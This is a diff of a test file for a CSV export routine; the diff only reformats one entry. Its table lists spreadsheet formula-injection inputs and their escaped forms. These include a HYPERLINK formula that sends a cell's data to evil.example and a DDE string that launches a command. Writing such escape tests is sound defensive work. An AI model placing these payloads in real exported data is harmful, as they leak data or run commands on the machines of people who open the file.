@@ -9,7 +9,11 @@ import { toCsv } from '../src/http/csv.js';
 
 const CELLS: [title: string, cell: CsvCell, field: string][] = [
   // The issue's four rule names.
-  ['a HYPERLINK that sends the sheet away', '=HYPERLINK("http://evil.example/?d="&A2,"open")', `"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"`],
+  [
+    'a HYPERLINK that sends the sheet away',
+    '=HYPERLINK("http://evil.example/?d="&A2,"open")',
+    `"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"`,
+  ],
   ['a DDE command', "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
   ['arithmetic starting with minus', '-2+3', "'-2+3"],
   ['an @ function', '@SUM(1,1)', `"'@SUM(1,1)"`],
